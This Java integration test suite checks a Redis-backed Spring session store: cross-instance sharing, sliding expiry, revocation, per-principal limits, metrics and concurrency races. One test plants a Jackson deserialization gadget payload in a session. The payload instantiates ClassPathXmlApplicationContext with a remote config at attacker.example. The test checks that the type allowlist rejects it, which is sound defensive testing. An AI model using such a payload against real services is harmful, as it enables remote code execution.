package dev.redisboot.session;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

import dev.redisboot.core.KeyDigester;
import dev.redisboot.test.RedisDeployment;
import io.micrometer.core.instrument.Counter;
import io.micrometer.core.instrument.MeterRegistry;
import org.junit.jupiter.api.Test;

import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.data.redis.core.StringRedisTemplate;

import static dev.redisboot.session.SessionInstances.get;
import static dev.redisboot.session.SessionInstances.login;
import static dev.redisboot.session.SessionInstances.post;
import static dev.redisboot.session.SessionInstances.sessionId;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Sessions on real Redis, run on each topology: shared between instances, sliding expiry,
 * unreadable sessions, sign out everywhere, the principal index, the maximum per principal
 * and the counters.
 */
abstract class AbstractSessionIntegrationTests {

	protected abstract RedisDeployment redis();

	protected static String newPrefix() {
		return "sess-" + UUID.randomUUID().toString().substring(0, 8);
	}

	@Test
	void aSessionStartedOnOneInstanceIsSeenByAnother() {
		String prefix = newPrefix();
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix);
				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix)) {
			String cookie = login(a, "ada");
			HttpResponse<String> me = get(b, "/me", cookie);
			assertThat(me.statusCode()).isEqualTo(200);
			assertThat(me.body()).isEqualTo("ada");
			assertThat(post(b, "/visits", cookie).body()).isEqualTo("1");
			assertThat(post(a, "/visits", cookie).body()).isEqualTo("2");
			assertThat(counter(a, "redisboot.sessions.creations").count()).isEqualTo(1);
		}
	}

	@Test
	void expirySlidesWithEveryRequestAndTheSessionEndsAfterInactivity() {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
				"spring.session.timeout=3s")) {
			String cookie = login(a, "ada");
			String key = repository(a).sessionKey(sessionId(cookie));
			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
			assertThat(redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS)).isBetween(1L, 3000L);
			await().atMost(Duration.ofSeconds(5))
				.until(() -> redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS) < 1500);
			String lastAccessed = (String) redis.opsForHash().get(key, "lastAccessedTime");
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(200);
			assertThat(redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS)).as("slid").isGreaterThan(2000);
			assertThat((String) redis.opsForHash().get(key, "lastAccessedTime")).isNotEqualTo(lastAccessed);
			await().atMost(Duration.ofSeconds(6)).until(() -> !redis.hasKey(key));
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
		}
	}

	@Test
	void corruptBytesGiveANewSessionNotAnError() {
		assertUnreadable("{not json", "corrupt");
	}

	@Test
	void anAttributeWhoseClassChangedGivesANewSession() {
		assertUnreadable("{\"@class\":\"dev.redisboot.session.SessionTestApplication$Profile\",\"name\":\"ada\","
				+ "\"roles\":[\"java.util.ArrayList\",[]],\"age\":36}", "class-changed");
	}

	@Test
	void anAttributeOfATypeOutsideTheAllowlistGivesANewSession() {
		assertUnreadable("{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
				+ "\"configLocation\":\"http://attacker.example/beans.xml\"}", "type-not-allowed");
	}

	private void assertUnreadable(String storedProfile, String cause) {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			String key = repository(a).sessionKey(sessionId(cookie));
			a.getBean(StringRedisTemplate.class).opsForHash().put(key, "sessionAttr:profile", storedProfile);
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
			HttpResponse<String> visit = post(a, "/visits", cookie);
			assertThat(visit.statusCode()).isEqualTo(200);
			assertThat(visit.body()).isEqualTo("1");
			assertThat(SessionInstances.cookie(visit)).hasValueSatisfying((fresh) -> assertThat(fresh).isNotEqualTo(cookie));
			assertThat(registry(a).get("redisboot.sessions.deserialization.failures").tag("cause", cause).counter().count())
				.isEqualTo(2);
		}
	}

	@Test
	void signingOutEverywhereEndsEverySessionOfThePrincipalOnEveryInstance() {
		String prefix = newPrefix();
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix);
				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix)) {
			List<String> ada = List.of(login(a, "ada"), login(a, "ada"), login(b, "ada"));
			String grace = login(b, "grace");
			// sessions per principal, sampled with SCAN on every node, as digests
			String ada0 = repository(a).principalKey("ada");
			String family = ada0.substring(0, ada0.lastIndexOf(':') + 1);
			// shown by the display digest every tab shows a user by, derived from the index's own digest
			KeyDigester digester = a.getBean(KeyDigester.class);
			assertThat(digester.displayOfPrincipalDigest(ada0.substring(family.length()))).isEqualTo(digester.display("ada"));
			assertThat(new PrincipalSessionsEndpoint(repository(a)).principals().get("top"))
				.isEqualTo(List.of(Map.of("principal", digester.display("ada"), "sessions", 3L),
						Map.of("principal", digester.display("grace"), "sessions", 1L)));
			assertThat(repository(b).findSessions("ada")).extracting(SessionSummary::handle)
				.containsExactlyInAnyOrderElementsOf(
						ada.stream().map((cookie) -> repository(b).sessionHandle(sessionId(cookie))).toList());
			HttpResponse<String> revoked = post(b, "/logout-everywhere?user=ada", null);
			assertThat(revoked.body()).isEqualTo("{\"revoked\":3}");
			for (String cookie : ada) {
				assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
				assertThat(get(b, "/me", cookie).statusCode()).isEqualTo(401);
			}
			assertThat(get(a, "/me", grace).statusCode()).isEqualTo(200);
			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
			assertThat(redis.hasKey(repository(a).principalKey("ada"))).isFalse();
			assertThat(redis.opsForZSet().size(repository(a).expirationsKey())).isEqualTo(1);
			assertThat(registry(b).get("redisboot.sessions.revoked").tag("reason", "revoked").counter().count())
				.isEqualTo(3);
		}
	}

	@Test
	void theRequestOfARevokedSessionDoesNotBringItBack() {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			RedisbootSessionRepository repository = repository(a);
			RedisbootSession inFlight = repository.findById(sessionId(cookie));
			assertThat(repository.revokeSessions("ada")).isEqualTo(1);
			inFlight.setAttribute("visits", 5);
			repository.save(inFlight);
			assertThat(inFlight.isGone()).isTrue();
			assertThat(repository.findById(sessionId(cookie))).isNull();
		}
	}

	@Test
	void thePrincipalIndexOutlivesSessionsInUseAndGoesAwayWithThem() {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
				"spring.session.timeout=3s")) {
			// 3s sessions, each request sent once 1.8s of it remain: a loaded machine has that long
			// for one request, where 2s sessions left it 1.2s
			RedisbootSessionRepository repository = repository(a);
			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
			String index = repository.principalKey("ada");
			String kept = login(a, "ada");
			String abandoned = login(a, "ada");
			String key = repository.sessionKey(sessionId(kept));
			long indexTtl = redis.getExpire(index, java.util.concurrent.TimeUnit.MILLISECONDS);
			assertThat(indexTtl).isBetween(3000L, 6000L);
			// keep one session in use for longer than the index was first meant to live
			for (int i = 0; i < 4; i++) {
				await().atMost(Duration.ofSeconds(5))
					.until(() -> redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS) < 1800);
				assertThat(get(a, "/me", kept).statusCode()).isEqualTo(200);
			}
			assertThat(redis.hasKey(repository.sessionKey(sessionId(abandoned)))).isFalse();
			assertThat(repository.findSessions("ada")).extracting(SessionSummary::handle)
				.containsExactly(repository.sessionHandle(sessionId(kept)));
			assertThat(redis.opsForZSet().size(index)).as("expired member pruned").isEqualTo(1);
			// once the last session expires without any event, the index expires too
			await().atMost(Duration.ofSeconds(15)).until(() -> !redis.hasKey(index));
		}
	}

	@Test
	void signingInOverTheMaximumRevokesTheOldestSession() {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
				"redisboot.session.max-sessions-per-principal=2")) {
			String first = login(a, "ada");
			String second = login(a, "ada");
			String third = login(a, "ada");
			assertThat(get(a, "/me", first).statusCode()).isEqualTo(401);
			assertThat(get(a, "/me", second).statusCode()).isEqualTo(200);
			assertThat(get(a, "/me", third).statusCode()).isEqualTo(200);
			assertThat(repository(a).findSessions("ada")).hasSize(2);
			assertThat(registry(a).get("redisboot.sessions.revoked").tag("reason", "max-sessions").counter().count())
				.isEqualTo(1);
		}
	}

	@Test
	void loggingOutDeletesTheSession() {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			assertThat(post(a, "/logout", cookie).statusCode()).isEqualTo(204);
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
			assertThat(a.getBean(StringRedisTemplate.class).hasKey(repository(a).sessionKey(sessionId(cookie))))
				.isFalse();
			assertThat(counter(a, "redisboot.sessions.invalidated").count()).isEqualTo(1);
		}
	}

	@Test
	void expiredSessionsAreCountedOnceAcrossInstancesAndTheActiveGaugeFollows() {
		String prefix = newPrefix();
		// 3s: the three sign-ins and the first clean-up must all happen before the first session
		// expires, which 1s did not leave a loaded machine
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix, "spring.session.timeout=3s");
				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix,
						"spring.session.timeout=3s")) {
			String ada = login(a, "ada");
			List<String> cookies = List.of(ada, login(b, "grace"), login(b, "grace"));
			repository(a).cleanUpExpiredSessions();
			assertThat(registry(a).get("redisboot.sessions.active").gauge().value()).isEqualTo(3);
			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
			await().atMost(Duration.ofSeconds(15)).until(() -> !redis.hasKey(repository(a).sessionKey(sessionId(ada))));
			// KEYS is refused to a managed Redis user: wait for each session instead
			await().atMost(Duration.ofSeconds(15))
				.until(() -> cookies.stream().noneMatch((c) -> redis.hasKey(repository(a).sessionKey(sessionId(c)))));
			int byA = repository(a).cleanUpExpiredSessions();
			int byB = repository(b).cleanUpExpiredSessions();
			assertThat(byA + byB).isEqualTo(3);
			assertThat(counter(a, "redisboot.sessions.expired").count() + counter(b, "redisboot.sessions.expired").count())
				.isEqualTo(3);
			assertThat(registry(b).get("redisboot.sessions.active").gauge().value()).isZero();
		}
	}

	@Test
	void concurrentIdChangesOfOneSessionLeaveOneLiveSession() throws Exception {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			a.getBean(SessionTestApplication.Gate.class).lineUp(6);
			List<CompletableFuture<HttpResponse<String>>> rotations = new ArrayList<>();
			for (int i = 0; i < 6; i++) {
				rotations.add(CompletableFuture.supplyAsync(() -> post(a, "/rotate", cookie), AbstractSessionIntegrationTests::inNewThread));
			}
			List<String> cookies = new ArrayList<>();
			for (CompletableFuture<HttpResponse<String>> rotation : rotations) {
				HttpResponse<String> response = rotation.get(20, TimeUnit.SECONDS);
				assertThat(response.statusCode()).isEqualTo(200);
				cookies.add(SessionInstances.cookie(response).orElseThrow());
			}
			assertThat(cookies.stream().filter((c) -> get(a, "/me", c).statusCode() == 200)).as("live copies")
				.hasSize(1);
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
			assertThat(repository(a).findSessions("ada")).hasSize(1);
			assertThat(a.getBean(StringRedisTemplate.class).opsForZSet().size(repository(a).principalKey("ada")))
				.isEqualTo(1);
			assertThat(registry(a).get("redisboot.sessions.faults").tag("fault", "deleted").counter().count())
				.isEqualTo(5);
		}
	}

	@Test
	void aNewIdGivenToASessionWhileItIsRevokedDoesNotBringItBack() throws Exception {
		assertRevokedWhileHeld("/rotate");
	}

	@Test
	void aChangeToASessionWhileItIsRevokedDoesNotBringItBack() throws Exception {
		assertRevokedWhileHeld("/visits-held");
	}

	private void assertRevokedWhileHeld(String path) throws Exception {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			SessionTestApplication.Gate gate = a.getBean(SessionTestApplication.Gate.class);
			gate.hold();
			CompletableFuture<HttpResponse<String>> held = CompletableFuture.supplyAsync(() -> post(a, path, cookie),
					AbstractSessionIntegrationTests::inNewThread);
			gate.awaitReached();
			assertThat(post(a, "/logout-everywhere?user=ada", null).body()).isEqualTo("{\"revoked\":1}");
			gate.open();
			HttpResponse<String> response = held.get(20, TimeUnit.SECONDS);
			assertThat(response.statusCode()).isEqualTo(200);
			String after = SessionInstances.cookie(response).orElse(cookie);
			assertThat(get(a, "/me", after).statusCode()).isEqualTo(401);
			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
			assertThat(a.getBean(StringRedisTemplate.class).hasKey(repository(a).principalKey("ada"))).as("index")
				.isFalse();
			assertThat(repository(a).findSessions("ada")).isEmpty();
		}
	}

	@Test
	void idChangesRacingASignOutEverywhereLeaveNoSessionOfThePrincipal() throws Exception {
		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
			String cookie = login(a, "ada");
			List<CompletableFuture<HttpResponse<String>>> all = new ArrayList<>();
			for (int i = 0; i < 4; i++) {
				all.add(CompletableFuture.supplyAsync(() -> post(a, "/rotate", cookie), AbstractSessionIntegrationTests::inNewThread));
			}
			all.add(CompletableFuture.supplyAsync(() -> post(a, "/logout-everywhere?user=ada", null), AbstractSessionIntegrationTests::inNewThread));
			List<String> cookies = new ArrayList<>(List.of(cookie));
			for (CompletableFuture<HttpResponse<String>> request : all) {
				HttpResponse<String> response = request.get(20, TimeUnit.SECONDS);
				assertThat(response.statusCode()).isIn(200, 401);
				SessionInstances.cookie(response).ifPresent(cookies::add);
			}
			assertThat(cookies).allSatisfy((c) -> assertThat(get(a, "/me", c).statusCode()).isEqualTo(401));
			assertThat(repository(a).findSessions("ada")).isEmpty();
		}
	}

	/**
	 * Runs each request on a thread of its own, so that all of them are in flight at once.
	 */
	static void inNewThread(Runnable request) {
		new Thread(request, "session-test-request").start();
	}

	static RedisbootSessionRepository repository(ConfigurableApplicationContext context) {
		return SessionInstances.repository(context);
	}

	static MeterRegistry registry(ConfigurableApplicationContext context) {
		return context.getBean(MeterRegistry.class);
	}

	static Counter counter(ConfigurableApplicationContext context, String name) {
		return registry(context).get(name).counter();
	}

}
